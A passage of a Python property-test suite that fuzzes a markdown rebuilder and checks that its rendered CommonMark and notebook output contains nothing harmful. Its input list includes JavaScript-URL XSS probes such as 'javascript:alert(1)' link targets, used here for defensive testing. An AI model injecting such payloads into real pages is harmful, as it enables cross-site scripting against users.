    sign = r"\$|\\(?:begin|end)\{|\\\\[()\[\]]"
    for payload in LIVE:
        for token in COMMONMARK.parse(rebuild(payload)):
            for leaf in token.children or []:
                if leaf.type in ("link_open", "image"):
                    assert not re.search(sign, str(leaf.attrs))
    tight = rebuild("- ```\n  $a\n  ```\n  b $y$\n  ```\n  c\n  ```")
    assert "```\n\n" in tight
    quoted = rebuild("> ```\n> $a\n> ```\n>\n> b $y$")
    assert quoted == "> `$a`\n>\n> b $y$"
    assert rebuild(r"`\begin{a}` and `\end{a}`") == f"`\\{JOINER}begin{{a}}` and `\\{JOINER}end{{a}}`"
    assert rebuild(r"only `\begin{a}`") == r"only `\begin{a}`"


# ---------------------------------------------------------------- any text at all

PIECES = [
    *"`*_~$|[](){}<>!#+-=\\:.\"'@&5a \t\n",
    *[
        "``",
        "```",
        "~~~",
        "**",
        "***",
        "$$",
        "\\(",
        "\\)",
        "\\[",
        "\\]",
        "\\begin{a}",
        "\\end{a}",
        "\\\\[",
        "\\\\]",
        "\n\n",
    ],
    *[
        "  \n",
        "\n    ",
        "\n- ",
        "\n1. ",
        "\n> ",
        "- ",
        "> ",
        "1. ",
        "| a | b |\n|---|---|\n",
        "\n---\n",
        "](http://x.example/",
    ],
    *[
        "](javascript:alert(1))",
        "[r]: javascript:alert(1)\n",
        "[r]",
        "&lt;",
        "&#10;",
        "&#96;",
        "&#36;",
        "@@0@@",
        "é漢",
        "\u2028",
    ],
    *[
        "http://x.example/a_b",
        "www.x.example",
        "<br>",
        "\r",
        "\0",
        "\x0c",
        IMG,
        "<!--",
        "$x$",
        "`$$`",
        f"`{IMG}`",
        "![i](d)",
    ],
    *["&nbsp;", "~~a `~~", "~~` ~~", "[r]: a$$\n", "&#36;&#36;", "[a](&#36;&#36;)", "\\(a\\)", "`~~`"],
    *["```py\n", "`` ` ``", "$a{$", "~~s~~", "**b**", "<http://x.example>", "\u2060", "data:image/png;base64,AA"],
]
ANYTHING = st.one_of(st.lists(st.sampled_from(PIECES), max_size=25).map("".join), st.text(max_size=60))


@settings(max_examples=500)
@given(ANYTHING)
def test_any_text_is_harmless_on_any_page(text: str) -> None:
    written = rebuild(text)
    assert harm(COMMONMARK.render(written)) == []
    assert harm(nbconvert(written)) == []


@settings(max_examples=300)
@given(ANYTHING)
def test_building_twice_changes_neither_the_blocks_nor_the_words(text: str) -> None:
    once = rebuild(text.replace("<br>", "")).replace("<span></span>", "")  # what keeps dollars apart on a page
    assert shape(rebuild(once).replace("<span></span>", "")) == shape(once)


@settings(max_examples=300)
@given(st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Zl", "Zp"]), max_size=80))
def test_plain_text_is_shown_whole(text: str) -> None:
    assert seen(prose(text)) == seen_text(text)
    assert seen(f"a {escape(text)} b") == f"a{seen_text(text)}b"


def shape(markdown: str) -> list[str]:
    """The blocks of a text and the words in them, as CommonMark reads it."""
    found = []
    for token in COMMONMARK.parse(markdown):
        words = seen_text(
            "".join(" " if leaf.type.endswith("break") else leaf.content for leaf in token.children or [])
        )
        found.append(words if token.type == "inline" else f"{token.type} {seen_text(token.content)}")
    return found


def seen(markdown: str) -> str:
    """The words a reader of the page sees, their blanks left out."""
    page = re.sub(r"<(?!/?code)[^>]*>", "", COMMONMARK.render(markdown))
    return seen_text(html.unescape(re.sub(r"</?code[^>]*>", "", page)))


def seen_text(text: str) -> str:
    text = re.sub("[\u202d\u202e]", lambda match: f"⟨U+{ord(match[0]):04X}⟩", text)
    return re.sub(rf"[\s{JOINER}\0]+", "", text)
